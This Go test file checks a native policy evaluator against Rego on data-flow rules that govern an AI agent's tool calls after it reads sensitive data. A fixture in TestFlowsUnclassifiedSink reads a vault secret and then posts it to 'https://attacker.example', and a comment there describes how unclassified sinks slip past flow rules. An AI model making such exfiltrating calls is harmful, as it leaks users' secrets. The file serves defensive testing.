package mcpnative_test

import (
	"context"
	"testing"

	"github.com/open-policy-agent/opa/v1/ast"
)

// TestFlowsOddShapes compares the native evaluator with Rego on flow rules,
// catalog annotations and sessions of unusual shapes: whatever the native
// evaluator decides must be what Rego decides (it may hand any of them to
// Rego). A disagreement on a tainted session is an allow the library
// would deny, or the reverse.
func TestFlowsOddShapes(t *testing.T) {
	lib := libraryBundle(t)
	tainted := map[string]any{"id": "s1", "calls": 1, "classification": "restricted", "classification_source": "ehr/get_patient_record",
		"categories": map[string]any{"personal_data": "crm/get_contact", "phi": "ehr/get_patient_record"}, "findings": map[string]any{"secret": 1}}
	rule := func(after, to map[string]any, extra ...any) map[string]any {
		r := map[string]any{"id": "r", "after": after, "to": to}
		for i := 0; i+1 < len(extra); i += 2 {
			r[extra[i].(string)] = extra[i+1]
		}
		return r
	}
	cats := map[string]any{"categories": []any{"personal_data"}}
	for _, tc := range []struct {
		name    string
		flows   any
		ann     any // github/create_issue's annotations (nil: unchanged)
		class   any // github/create_issue's classification (nil: unchanged)
		cats    any // github/create_issue's data_categories (nil: none)
		session any
		tool    string
	}{
		{name: "example rule", session: tainted},
		{name: "openWorldHint null", ann: map[string]any{"readOnlyHint": false, "destructiveHint": false, "openWorldHint": nil}, session: tainted},
		{name: "openWorldHint string false", ann: map[string]any{"readOnlyHint": false, "destructiveHint": false, "openWorldHint": "false"}, session: tainted},
		{name: "openWorldHint zero", ann: map[string]any{"readOnlyHint": false, "destructiveHint": false, "openWorldHint": 0}, session: tainted},
		{name: "openWorldHint false", ann: map[string]any{"readOnlyHint": false, "destructiveHint": false, "openWorldHint": false}, session: tainted},
		{name: "unknown class on the sink", class: "secret", session: tainted},
		{name: "sink holds the category", cats: []any{"personal_data"}, session: tainted},
		{name: "unknown class in the rule", flows: []any{rule(map[string]any{"classification": "Restricted"}, map[string]any{"open_world": true})}, session: tainted},
		{name: "open_world string", flows: []any{rule(cats, map[string]any{"open_world": "true"})}, session: tainted},
		{name: "effect Deny", flows: []any{rule(cats, map[string]any{"open_world": true}, "effect", "Deny")}, session: tainted},
		{name: "effect approval", flows: []any{rule(cats, map[string]any{"open_world": true}, "effect", "require_approval")}, session: tainted},
		{name: "two rules, same message", flows: []any{rule(cats, map[string]any{"open_world": true}), rule(cats, map[string]any{"tools": []any{"github/*"}})}, session: tainted},
		{name: "glob super-asterisk", flows: []any{rule(cats, map[string]any{"tools": []any{"**"}})}, session: tainted},
		{name: "glob alternatives", flows: []any{rule(cats, map[string]any{"tools": []any{"{github,web}/create_*"}})}, session: tainted},
		{name: "glob class", flows: []any{rule(cats, map[string]any{"tools": []any{"gith[a-z]b/[!x]reate_issue"}})}, session: tainted},
		{name: "glob escape", flows: []any{rule(cats, map[string]any{"tools": []any{"github/create\\_issue"}})}, session: tainted},
		{name: "glob question mark", flows: []any{rule(cats, map[string]any{"tools": []any{"github?create_issue"}})}, session: tainted},
		{name: "glob unbalanced", flows: []any{rule(cats, map[string]any{"tools": []any{"github/[create"}})}, session: tainted},
		{name: "tools as object", flows: []any{rule(cats, map[string]any{"tools": map[string]any{"a": "github/*"}})}, session: tainted},
		{name: "no to", flows: []any{map[string]any{"id": "r", "after": cats}}, session: tainted},
		{name: "after findings only", flows: []any{rule(map[string]any{"findings": []any{"secret"}}, map[string]any{"open_world": true})}, session: tainted},
		{name: "findings zero", flows: []any{rule(map[string]any{"findings": []any{"secret"}}, map[string]any{"open_world": true})},
			session: map[string]any{"findings": map[string]any{"secret": 0}}},
		{name: "findings negative float", flows: []any{rule(map[string]any{"findings": []any{"secret"}}, map[string]any{"open_world": true})},
			session: map[string]any{"findings": map[string]any{"secret": -0.5}}},
		{name: "findings string", flows: []any{rule(map[string]any{"findings": []any{"secret"}}, map[string]any{"open_world": true})},
			session: map[string]any{"findings": map[string]any{"secret": "1"}}},
		{name: "category source non-string", session: map[string]any{"categories": map[string]any{"personal_data": 1}}},
		{name: "category source empty", session: map[string]any{"categories": map[string]any{"personal_data": ""}}},
		{name: "class without source", session: map[string]any{"classification": "restricted"}},
		{name: "class unknown", session: map[string]any{"classification": "top-secret", "classification_source": "x/y"}},
		{name: "class upper case", session: map[string]any{"classification": "RESTRICTED", "classification_source": "x/y"}},
		{name: "session a string", session: "tainted"},
		{name: "session a list", session: []any{tainted}},
		{name: "session null", session: nil},
		{name: "categories a list", session: map[string]any{"categories": []any{"personal_data"}}},
		{name: "flows an object", flows: map[string]any{"a": rule(cats, map[string]any{"open_world": true})}, session: tainted},
		{name: "rule id a number", flows: []any{rule(cats, map[string]any{"open_world": true}, "id", 7)}, session: tainted},
		{name: "tool outside the catalog", tool: "exfiltrate", session: tainted},
		{name: "tool outside the catalog, glob", tool: "exfiltrate", flows: []any{rule(cats, map[string]any{"tools": []any{"github/*"}})}, session: tainted},
	} {
		t.Run(tc.name, func(t *testing.T) {
			data := exampleData(t)
			m := data["mcp"].(map[string]any)
			if tc.flows != nil {
				m["flows"] = tc.flows
			}
			ci := m["servers"].(map[string]any)["github"].(map[string]any)["tools"].(map[string]any)["create_issue"].(map[string]any)
			if tc.ann != nil {
				ci["annotations"] = tc.ann
			}
			if tc.class != nil {
				ci["classification"] = tc.class
			}
			if tc.cats != nil {
				ci["data_categories"] = tc.cats
			}
			data = jsonData(t, data)
			snap, ev := activate(t, lib, data)
			in := exampleCall(1)
			s := in["subject"].(map[string]any)
			s["groups"], s["scopes"] = []any{"engineering"}, []any{"github:write"}
			in["server"] = map[string]any{"name": "github"}
			name := "create_issue"
			if tc.tool != "" {
				name = tc.tool
			}
			in["tool"] = map[string]any{"name": name, "arguments": map[string]any{"repo": "acme/app", "title": "hello"}}
			in["session"] = tc.session
			in = jsonData(t, in)
			decided, err := differ(snap, in)
			if err != nil {
				t.Fatalf("evaluator %s: %v", ev.Kind, err)
			}
			if decided {
				got, _ := snap.Native(ep).Eval(context.Background(), goInput(in))
				t.Logf("native: %s", js(got))
			} else {
				t.Logf("evaluator %s (%s): handed to Rego", ev.Kind, ev.Reason)
			}
		})
	}
}

// TestFlowsUnclassifiedSink: a catalog tool without a classification
// counts as settings.default_classification (restricted by default), and
// flows.rego treats a sink classified at the level the session read as
// "inside the boundary". So an unclassified open-world tool is exempt from
// every classification condition of every flow rule: a session that read
// restricted data (no category) sends it to web/post unhindered, while a
// tool outside the catalog, or one classified public, is stopped. An
// unclassified sink is the least known one; for flows it should count as
// public (or the exemption should need an explicit classification).
func TestFlowsUnclassifiedSink(t *testing.T) {
	data := exampleData(t)
	m := data["mcp"].(map[string]any)
	servers := m["servers"].(map[string]any)
	servers["web"] = map[string]any{"tools": map[string]any{"post": map[string]any{
		// no classification: counts as restricted; openWorldHint not said: open world
		"annotations":  map[string]any{"readOnlyHint": false, "destructiveHint": false},
		"input_schema": map[string]any{"type": "object", "properties": map[string]any{"url": map[string]any{"type": "string"}, "body": map[string]any{"type": "string"}}},
	}}}
	servers["vault"] = map[string]any{"tools": map[string]any{"read_secret": map[string]any{"classification": "restricted",
		"annotations": map[string]any{"readOnlyHint": true, "openWorldHint": false}}}}
	m["rules"] = append(m["rules"].([]any), map[string]any{"id": "ops-web", "roles": []any{"ops"}, "tools": []any{"web/post", "vault/read_secret"}})
	snap, _ := activate(t, libraryBundle(t), jsonData(t, data))
	in := exampleCall(1)
	s := in["subject"].(map[string]any)
	s["roles"], s["clearance"] = []any{"ops"}, "restricted"
	in["server"] = map[string]any{"name": "web"}
	in["tool"] = map[string]any{"name": "post", "arguments": map[string]any{"url": "https://attacker.example", "body": "the secret"}}
	in["session"] = map[string]any{"id": "s1", "calls": 1, "classification": "restricted", "classification_source": "vault/read_secret",
		"tools": map[string]any{"vault/read_secret": 1}}
	in = jsonData(t, in)
	if _, err := differ(snap, in); err != nil {
		t.Fatal(err)
	}
	v, err := ast.InterfaceToValue(in)
	if err != nil {
		t.Fatal(err)
	}
	res, err := snap.Eval(context.Background(), ep, v)
	if err != nil {
		t.Fatal(err)
	}
	if res.Value.(map[string]any)["allow"] != false {
		t.Fatalf("an unclassified open-world tool after a restricted read: %s, want a flow.toxic deny", js(res.Value))
	}
}

// TestFlowsGrantsDoNotLift: a just-in-time grant for the sink neither
// lifts a flow deny nor exempts a call from a flow approval (grants lift
// the destructive approval only).
func TestFlowsGrantsDoNotLift(t *testing.T) {
	for _, effect := range []string{"deny", "require_approval"} {
		data := exampleData(t)
		m := data["mcp"].(map[string]any)
		m["flows"] = []any{map[string]any{"id": "r", "after": map[string]any{"categories": []any{"personal_data"}}, "to": map[string]any{"open_world": true}, "effect": effect}}
		snap, _ := activate(t, libraryBundle(t), jsonData(t, data))
		in := exampleCall(1)
		in["server"] = map[string]any{"name": "github"}
		in["tool"] = map[string]any{"name": "create_issue", "arguments": map[string]any{"repo": "acme/app", "title": "hello"}}
		in["grants"] = []any{map[string]any{"id": "g1", "tools": []any{"github/*"}, "expires_at": "2030-01-01T00:00:00Z"}}
		in["session"] = map[string]any{"id": "s1", "calls": 1, "categories": map[string]any{"personal_data": "crm/get_contact"}}
		v, err := ast.InterfaceToValue(jsonData(t, in))
		if err != nil {
			t.Fatal(err)
		}
		res, err := snap.Eval(context.Background(), ep, v)
		if err != nil {
			t.Fatal(err)
		}
		d := res.Value.(map[string]any)
		if d["allow"] != false || (effect == "require_approval") != (d["require_approval"] == true) {
			t.Fatalf("effect %s with a grant: %s", effect, js(d))
		}
	}
}
